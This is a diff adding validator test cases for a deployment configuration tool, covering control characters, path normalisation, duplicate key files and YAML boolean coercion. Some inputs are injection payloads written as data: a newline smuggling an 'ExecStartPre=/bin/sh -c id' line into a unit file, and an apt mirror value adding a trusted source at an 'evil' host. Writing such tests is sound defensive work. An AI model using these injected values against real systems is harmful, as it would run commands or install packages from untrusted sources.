@@ -271,6 +271,63 @@ CASES: list[tuple[str, str, str, str]] = [
         "mirrors.pypi",
         "must be an http:// or https:// URL (got '198.18.0.1:8082/simple')",
     ),
+    # issue 18 C1: a control character in any string would add a line to a unit, the policy or apt's list
+    *[
+        (f"newline_in_{where.replace('.', '_').replace('[0]', '')}", text, where,
+         "contains the control character U+000A (LINE FEED)")
+        for where, text in [
+            ("model.id", 'extends: _good\nmodel: {id: "m\\nExecStartPre=/bin/sh -c id"}\n'),
+            ("model.served_model_name", 'extends: _good\nmodel: {served_model_name: "m\\nx=y"}\n'),
+            ("gateway.model_alias", 'extends: _good\ngateway: {model_alias: "a\\nstage: all"}\n'),
+            ("pools.decode.kv_cache_dtype", 'extends: _good\npools: {decode: {kv_cache_dtype: "fp8\\nx"}}\n'),
+            ("pools.decode.extra_args[0]", 'extends: _good\npools: {decode: {extra_args: ["--a\\nb=c"]}}\n'),
+            ("mirrors.apt",
+             'extends: _good\nmirrors: {apt: "http://m/ ./\\ndeb [trusted=yes] http://evil/ ./"}\n'),
+        ]
+    ],
+    (
+        "tab_in_description",
+        'extends: _good\ndescription: "a\\tb"\n',
+        "description",
+        "contains the control character U+0009 (TAB)",
+    ),
+    # issue 18 C2: paths on the hosts are absolute and normalised (render writes them under --out)
+    *[
+        (f"keys_file_{name}", f"extends: _good\ngateway: {{keys_file: '{path}'}}\n", "gateway.keys_file",
+         f"must be an absolute, normalised path like /etc/pdfleet/gateway/keys.yaml (no '..', '.', '//' or "
+         f"trailing '/') (got '{path}')")
+        for name, path in [("relative", "keys.yaml"), ("parent", "/etc/pdfleet/../../tmp/keys.yaml"),
+                           ("dot", "/etc/./keys.yaml"), ("double_slash", "//etc/keys.yaml"),
+                           ("trailing_slash", "/etc/pdfleet/"), ("root", "/")]
+    ],
+    ("venv_relative", "extends: _good\nvllm: {venv: venv}\n", "vllm.venv", "must be an absolute, normalised"),
+    # issue 18 C7: the gateway refuses a keys file that holds one key twice
+    (
+        "same_key_file_twice",
+        "extends: _good\ngateway: {client_key_file: ~/k/gw.key, admin_key_file: ~/k/../k/gw.key}\n",
+        "gateway.admin_key_file",
+        "is the same file as gateway.client_key_file (~/k/gw.key); the admin key must differ",
+    ),
+    # issue 18 C9: YAML 1.1 reads unquoted off/no/yes/on as booleans
+    (
+        "stage_off_is_a_boolean",
+        "extends: _good\ngateway: {stage: off}\n",
+        "gateway.stage",
+        "must be a string, but YAML read the unquoted value as the boolean false (it reads unquoted no, off "
+        "and false that way); quote it",
+    ),
+    (
+        "stage_name_yes_is_a_boolean",
+        "extends: _good\ngateway: {stages: {yes: {short: 0, long: 100}}}\n",
+        "gateway.stages.true",
+        "the key must be a string, but YAML read the unquoted value as the boolean true",
+    ),
+    (
+        "version_is_a_number",
+        "extends: _good\nvllm: {version: 0.11}\n",
+        "vllm.version",
+        'must be a string, but YAML read the unquoted value as the number 0.11; quote it: "0.11"',
+    ),
     (
         "mooncake_rdma_without_rdma",
         "extends: _good\nvllm: {version: '0.15.0'}\nrdma: {enabled: false}\n"
